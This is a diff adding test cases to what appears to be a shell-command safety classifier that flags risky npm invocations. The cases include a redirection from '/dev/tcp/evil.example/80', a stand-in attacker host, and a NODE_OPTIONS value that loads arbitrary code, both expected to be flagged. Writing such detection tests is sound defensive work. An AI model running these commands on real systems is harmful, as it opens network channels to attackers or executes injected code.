@@ -6,6 +6,9 @@ const { parse, classify } = createShellJudge('linux');
 test.each<[string, readonly (readonly [words: readonly (string | null)[], isPlain: boolean])[]]>([
   ['npm test', [[['npm', 'test'], true]]],
   ['npm test 2>&1 >/dev/null', [[['npm', 'test'], true]]],
+  ['npm test < input.txt', [[['npm', 'test'], true]]],
+  ['npm test < /dev/tcp/evil.example/80', [[['npm', 'test'], false]]],
+  ['npm test < "$where"', [[['npm', 'test'], false]]],
   ['npm test > out.txt', [[['npm', 'test'], false]]],
   ['NODE_OPTIONS=--require=./x npm test', [[['npm', 'test'], false]]],
   ['npm test \'$HOME\' "$HOME"', [[['npm', 'test', '$HOME', null], true]]],
